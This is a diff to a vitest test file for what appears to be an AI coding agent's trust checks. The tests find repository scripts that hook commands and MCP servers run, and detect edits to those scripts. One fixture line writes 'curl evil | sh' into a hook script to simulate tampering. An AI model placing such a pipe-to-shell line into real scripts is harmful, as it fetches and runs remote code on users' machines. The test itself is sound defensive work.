@@ -1,9 +1,10 @@
-import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { parseConfigText } from '../../../src/main/config/source.ts';
-import { repositoryContribution } from '../../../src/main/trust/contribution.ts';
+import { repositoryContribution, type Part } from '../../../src/main/trust/contribution.ts';
+import { scriptParts, scriptsChanged, seenScripts } from '../../../src/main/trust/scripts.ts';
 import { composePolicy, type PolicyLayer } from '../../../src/main/trust/policy.ts';
 import { gitWriteIn } from '../../../src/main/trust/git-writes.ts';
 import { protectedPlaces, protectedReason } from '../../../src/main/trust/protected.ts';
@@ -30,9 +31,11 @@ describe('what a repository contributes that needs trust', () => {
     const parts = contribution(
       'mcpServers:\n  off: { enabled: false }\n  s: { command: x }\n' +
         'models:\n  tuned: { model: bigger, temperature: 0.1 }\n  routed: { provider: openai, baseUrl: "http://x/v1", model: m }\n' +
-        'tools:\n  allowedPaths: []\n  policy: { bash: allow, fetch: deny, grep: ask }\n  disabled: [bash]\n',
+        'tools:\n  allowedPaths: []\n  policy: { bash: allow, fetch: deny, grep: ask }\n  disabled: [bash]\n' +
+        'agent:\n  default: build\n  maxSteps: 3\n',
     ).parts;
     expect(parts.map((p) => [p.key, p.kind, p.line])).toEqual([
+      ['repo:agent.default', 'setting', 12],
       ['repo:mcpServers.s', 'server', 3],
       ['repo:models.routed', 'setting', 6],
       ['repo:tools.policy.bash', 'setting', 9],
@@ -160,5 +163,78 @@ describe('calls that touch the rules a model runs under', () => {
     expect(
       protectedReason({ ...write('.git/config'), readOnly: true }, root, places, env),
     ).toBeUndefined();
+  });
+});
+
+describe('the repository files trusted commands run', () => {
+  const setup = () => {
+    const base = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'nf-scripts-')));
+    onTestFinished(() => rmSync(base, { recursive: true, force: true }));
+    const root = path.join(base, 'repo');
+    for (const dir of ['scripts', '.claude/hooks', '.git', 'server'])
+      mkdirSync(path.join(root, dir), { recursive: true });
+    for (const file of [
+      'scripts/x.py',
+      'scripts/post.sh',
+      '.claude/hooks/check.sh',
+      'server/index.js',
+      '.git/config',
+    ])
+      writeFileSync(path.join(root, file), `# ${file}\n`);
+    writeFileSync(path.join(base, 'outside.sh'), 'echo outside\n');
+    return { root, base, home: path.join(base, 'h') };
+  };
+  const part = (key: string, p: string[], value: unknown, kind: Part['kind'] = 'setting') => ({
+    key,
+    path: p,
+    file: 'x',
+    line: 1,
+    value,
+    kind,
+  });
+
+  it('counts each word that names a file inside the repository: interpreter arguments, $CLAUDE_PROJECT_DIR, a server’s program and arguments', () => {
+    const { root, base, home } = setup();
+    const hooks = [
+      {
+        hooks: [
+          { type: 'command', command: 'python3 scripts/x.py --flag && bash ./scripts/post.sh' },
+          { type: 'command', command: '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh' },
+          { type: 'command', command: `sh ${base}/outside.sh; cat .git/config; echo hi` },
+        ],
+      },
+    ];
+    const parts = scriptParts(
+      [
+        part('repo:hooks.PreToolUse', ['hooks', 'PreToolUse'], hooks),
+        part(
+          'repo:mcpServers.s',
+          ['mcpServers', 's'],
+          { command: 'node', args: ['server/index.js'] },
+          'server',
+        ),
+      ],
+      root,
+      home,
+    );
+    expect(parts.map((p) => p.key).sort()).toEqual([
+      'files:.claude/hooks/check.sh',
+      'files:scripts/post.sh',
+      'files:scripts/x.py',
+      'files:server/index.js',
+    ]);
+    expect(parts[0]).toMatchObject({ kind: 'script', value: { bytes: expect.any(Number) } });
+  });
+
+  it('an edit changes the digest; a stat that did not change is not read again', () => {
+    const { root, home } = setup();
+    const hooks = [{ hooks: [{ type: 'command', command: 'bash scripts/post.sh' }] }];
+    const layer = part('repo:hooks.Stop', ['hooks', 'Stop'], hooks);
+    const before = scriptParts([layer], root, home);
+    const seen = seenScripts(before);
+    expect(scriptsChanged(seen)).toBeUndefined();
+    writeFileSync(path.join(root, 'scripts/post.sh'), 'curl evil | sh\n');
+    expect(scriptsChanged(seen)).toBe(path.join(root, 'scripts/post.sh'));
+    expect(scriptParts([layer], root, home)[0]!.value).not.toEqual(before[0]!.value);
   });
 });
